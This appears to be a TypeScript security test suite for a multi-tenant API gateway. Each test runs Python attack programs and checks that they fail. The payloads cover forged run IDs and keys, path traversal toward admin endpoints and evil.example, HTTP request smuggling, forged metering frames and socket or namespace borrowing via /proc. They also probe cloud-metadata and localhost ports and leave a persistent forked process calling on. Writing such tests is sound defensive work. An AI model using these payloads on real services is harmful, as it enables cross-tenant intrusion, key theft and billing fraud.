import type { SeenCall } from "./called-service.ts";
import {
  begin,
  connect,
  countCalls,
  ended,
  type Ended,
  execute,
  type GatewayAttack,
  type Ground,
  publish,
  seenDuring,
} from "./ground.ts";

const py = String.raw;
const victimCalls = 8;

type Attacked = { run: Ended; seen: SeenCall[]; faults: string[] };

/** Executes a program as another user's run goes on, and tells where the two were mixed up. */
async function attackNeighbour(ground: Ground, program: string, config: object = {}): Promise<Attacked> {
  const honest = py`
def main(input):
    for n in range(${victimCalls}):
        ask("/things", {"of": "victim"}, os.environ["TREASURE_BASE_URL"])
        time.sleep(0.2)
    return {}`;
  await connect(ground, "victim", "treasure", { preset: null, kind: "bearer" });
  const agent = await publish(ground, "victim", honest, { connections: ["treasure"] });
  const other = await begin(ground, agent, {});
  const attacked = await attack(ground, program, config, { victim: other });
  await ended(ground, other);
  const own = await countCalls(ground, other);
  const faults = [...attacked.faults];
  if (own !== victimCalls) faults.push(`the victim's run has ${own} calls instead of ${victimCalls}`);
  return { ...attacked, faults };
}

/** Executes a program, which says what `worked`: nothing should. */
async function attack(ground: Ground, program: string, config: object = {}, input: object = {}): Promise<Attacked> {
  const agent = await publish(ground, "mallory", program, { connections: ["openai"], ...config });
  let run: Ended | null = null;
  const seen = await seenDuring(ground, async () => {
    run = await execute(ground, agent, { ...input, port: ground.service.port });
  });
  const { status, result, said } = run as unknown as Ended;
  const worked = JSON.stringify(result["worked"] ?? null);
  const faults = [
    ...(status === "success" && worked === "[]"
      ? []
      : [`it ended by '${status}', and worked: ${worked.slice(0, 300)}`]),
    ...(said.includes(ground.service.key) ? ["the key is in what the run left"] : []),
  ];
  return { run: run as unknown as Ended, seen: seen.filter(({ text }) => !text.includes("victim")), faults };
}

const left = ({ seen }: Attacked, key: string): SeenCall[] => seen.filter((call) => call.key === key);

/** Each call that left is one of the run's own. */
async function notOfRun(ground: Ground, attacked: Attacked): Promise<string[]> {
  const [listed, sent] = [await countCalls(ground, attacked.run.id), left(attacked, ground.service.key).length];
  return listed === sent ? [] : [`${sent} calls left, and ${listed} are the run's`];
}

const forged = (name: string, program: string, most = 0): GatewayAttack => ({
  name,
  class: "forge",
  async act(ground) {
    await connect(ground, "mallory", "google", { preset: "google" });
    const attacked = await attack(ground, program, { connections: ["openai", "google"] });
    const sent = left(attacked, ground.service.key).length;
    return [...attacked.faults, ...(sent > most ? [`${sent} calls left`] : []), ...(await notOfRun(ground, attacked))];
  },
});

/** Attacks that say that they are another run, or have another key. */
export const forgeries: readonly GatewayAttack[] = [
  {
    name: "fields and paths that name another run",
    class: "forge",
    async act(ground) {
      const program = py`
def main(input):
    named = {field: input["victim"] for field in ("x_runfleet_run", "x_run_id", "x_forwarded_for", "run_id", "forwarded")}
    base = os.environ["OPENAI_BASE_URL"].rpartition("/")[0]
    paths = ["/treasure/things", "/openai/../treasure/things", "/%74reasure/things", "//treasure/things", "/treasure"]
    return {"worked": worked([ask(path, None, base, **named) for path in paths]), "own": ask("/chat/completions", None, None, **named)[0]}`;
      const attacked = await attackNeighbour(ground, program);
      const own = attacked.run.result["own"] === 200 ? [] : ["its own call wasn't answered"];
      return [...attacked.faults, ...own, ...(await notOfRun(ground, attacked))];
    },
  },
  forged(
    "a key of its own, in each place where one may be",
    py`
def main(input):
    fields = [{"authorization": "Bearer sk-mine"}, {"x_api_key": "sk-mine"}, {"api_key": "sk-mine"}, {"x_goog_api_key": "sk-mine"},
              {"authorization": "Basic bWU6c2stbWluZQ=="}, {"authorization": "Bearer " + PLACEHOLDER, "x_api_key": "sk-mine"}]
    google = lambda key: ask("/models/gemini-2.5-flash:generateContent?key=" + key, None, os.environ["GOOGLE_GEMINI_BASE_URL"])
    return {"worked": worked([ask(**field) for field in fields] + [google("sk-mine"), google(PLACEHOLDER + "&key=sk-mine")])}`,
  ),
  {
    name: "paths that lead out of the connection's address",
    class: "forge",
    async act(ground) {
      const program = py`
def main(input):
    paths = ["/../admin/keys", "/%2e%2e/admin/keys", "/..%2fadmin/keys", "/..%2f..%2fadmin/keys", "/..\\admin/keys", "/%2e%2e%2fadmin/keys", "/.;/../admin/keys", "/%252e%252e/admin/keys",
             "@evil.example/admin/keys", ":1/admin/keys", ".evil.example/keys", "//evil.example/admin/keys"]
    return {"worked": [], "answers": [raw(f"GET /openai{path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".encode())[:12] for path in paths]}`;
      const attacked = await attack(ground, program);
      const out = attacked.seen.map(({ path }) => path).filter(leadsOut);
      return [...attacked.faults, ...out.map((path) => `${path} was asked for`)];
    },
  },
  forged(
    "a second request, hidden in the first one",
    py`
def main(input):
    hidden = "POST /v1/admin/hidden HTTP/1.1\r\nhost: x\r\nauthorization: Bearer " + PLACEHOLDER + "\r\ncontent-length: 0\r\n\r\n"
    head = "POST /openai/things HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
    told = [raw((head + more).encode("latin1")) for more in (
        f"content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        f"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n{hidden}",
        f"transfer-encoding: xchunked\r\n\r\n{hidden}",
        f"content-length: 0\r\ncontent-length: {len(hidden)}\r\n\r\n{hidden}",
        f"content-length : 0\r\n\r\n{hidden}",
        f"x-a: b\rx-c: d\r\ncontent-length: 0\r\n\r\n{hidden}",
        f"x-a: b\nconnection: close\r\ncontent-length: 0\r\n\r\n",
    )]
    return {"worked": [one for one in told if "hidden" in one]}`,
    7,
  ),
  {
    name: "frames on each descriptor that say what a call has cost",
    class: "forge",
    async act(ground) {
      const program = py`
def main(input):
    answer = ask()
    said = [{"type": "usage", "source": "metered", "input_tokens": 0, "output_tokens": 0, "cost_usd": 0},
            {"type": "call.end", "call": 1, "status": 200, "counted": "metered", "output_tokens": 0}, {"type": "call.start", "call": 7, "host": "forged"}]
    for fd in range(1, 64):
        for one in said:
            try: os.write(fd, b"\n" + json.dumps(one).encode() + b"\n")
            except OSError: pass
    return {"worked": []}`;
      const attacked = await attack(ground, program);
      const billed = attacked.seen.reduce((sum, { tokens }) => sum + tokens, 0);
      const { input_tokens, output_tokens } = attacked.run.metered ?? { input_tokens: 0, output_tokens: 0 };
      const isTrue = billed > 0 && input_tokens + output_tokens === billed;
      return isTrue ? [] : [`${input_tokens} and ${output_tokens} tokens are metered of ${billed}`];
    },
  },
];

function leadsOut(path: string): boolean {
  const decoded = decodeURIComponent(path)
    .replaceAll("\\", "/")
    .replaceAll(/;[^/]*/g, "");
  return !new URL(decoded, "http://x").pathname.startsWith("/v1/tenant");
}

/** Attacks that use another run's socket, key or place. */
export const borrowings: readonly GatewayAttack[] = [
  {
    name: "another run's socket: in /proc, by its port, from its own descriptors, in another namespace",
    class: "borrow",
    async act(ground) {
      const program = py`
import ctypes, fcntl, glob
def main(input):
    found = []
    for fd in range(3, 256):
        try:
            mine = socket.socket(fileno=os.dup(fd))
        except OSError: continue
        try:
            if mine.family in (socket.AF_INET, socket.AF_INET6): found.append(f"descriptor {fd} is {mine}")
            mine.settimeout(0.2)
            if mine.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN): found.append(f"descriptor {fd} listens")
        except OSError: pass
        mine.detach()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/ns/net") != os.readlink("/proc/self/ns/net"): found.append(f"{pid} has another network")
        except OSError: pass
        for name in glob.glob(f"/proc/{pid}/ns/net"):
            try:
                if ctypes.CDLL(None).setns(os.open(name, os.O_RDONLY), 0) == 0 and os.readlink("/proc/self/ns/net") != os.readlink("/proc/1/ns/net"): found.append("entered " + name)
            except OSError: pass
    for line in open("/proc/net/unix").readlines()[1:]:
        path = line.split()[-1]
        if path.startswith("@"):
            try:
                with socket.socket(socket.AF_UNIX) as s: s.connect("\0" + path[1:])
                found.append("connected to " + path)
            except OSError: pass
    for host in ("127.0.0.1", "127.0.0.2", "10.0.0.1", "172.17.0.1", "169.254.169.254", "::1"):
        for port in (input["port"], 5432, 6379, 8080, 9229):
            try: socket.create_connection((host, port), timeout=0.05).close(); found.append(f"connected to {host}:{port}")
            except OSError: pass
    return {"worked": found + worked([ask("/things", {"of": "attack"}, "http://127.0.0.1:3128/treasure")])}`;
      const attacked = await attackNeighbour(ground, program);
      return [...attacked.faults, ...(attacked.seen.length > 0 ? [`${attacked.seen.length} calls left`] : [])];
    },
  },
  {
    name: "the placeholder key, at the service itself",
    class: "borrow",
    async act(ground) {
      const host = `127.0.0.1:${ground.service.port}`;
      const program = py`
def main(input):
    where = f"127.0.0.1:{input['port']}"
    body = b'{"of":"attack"}'
    fields = f"host: {where}\r\nauthorization: Bearer {PLACEHOLDER}\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n"
    straight = raw(f"POST http://{where}/v1/tenant/things HTTP/1.1\r\n{fields}".encode() + body)
    with socket.create_connection(("127.0.0.1", 3128), timeout=3) as s:
        s.sendall(f"CONNECT {where} HTTP/1.1\r\nhost: {where}\r\n\r\n".encode())
        opened = s.recv(4096)
        s.sendall(f"POST /v1/tenant/things HTTP/1.1\r\n{fields}".encode() + body)
        try: tunnelled = s.recv(4096).decode("latin1")
        except OSError: tunnelled = ""
    return {"worked": [tunnelled] if " 200 " in tunnelled else [], "called": " 200 " in straight}`;
      const attacked = await attack(ground, program, { runtime_mode: "full", network: { allow: [host] } });
      // By the service's own name it is a call by the connection, which is the run's. A tunnel there carries nothing but TLS.
      const others = attacked.seen.filter(({ key }) => key !== ground.service.key);
      const called = attacked.run.result["called"] === true && attacked.seen.length === 1;
      return [
        ...attacked.faults,
        ...(called ? [] : [`the service saw ${attacked.seen.length} calls instead of one by its name`]),
        ...(others.length > 0 ? ["a call had another key"] : []),
        ...(await notOfRun(ground, attacked)),
      ];
    },
  },
  {
    name: "a process that calls on after its run",
    class: "borrow",
    async act(ground) {
      const program = py`
def main(input):
    if input.get("stays"):
        reading, writing = os.pipe()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    ask("/things", {"of": "left behind"})
                    os.write(writing, b"x")
            os._exit(0)
        os.read(reading, 1)
    else: ask("/things", {"of": "its own"})
    return {"worked": []}`;
      const agent = await publish(ground, "mallory", program, { connections: ["openai"], limits: { pids: 64 } });
      const first = await execute(ground, agent, { stays: true });
      const seen = await seenDuring(ground, async () => {
        for (let n = 0; n < 3; n += 1) {
          const { id } = await execute(ground, agent, {});
          const calls = await countCalls(ground, id);
          if (calls !== 1) throw new Error(`a later run has ${calls} calls instead of 1`);
        }
      });
      const after = seen.filter(({ text }) => text.includes("left behind")).length;
      const before = await countCalls(ground, first.id);
      return [
        ...(before > 0 ? [] : ["the process never called"]),
        ...(after > 0 ? [`${after} calls left after their run`] : []),
      ];
    },
  },
  forged(
    "the key, by a service that shows it",
    py`
import base64
def main(input):
    told = [ask("/echo/" + kind) for kind in ("field", "json", "gzip", "error", "slow")]
    for one in told: print(one[1])
    return {"worked": [one for one in told if "[redacted]" not in one[1]]}`,
    5,
  ),
];
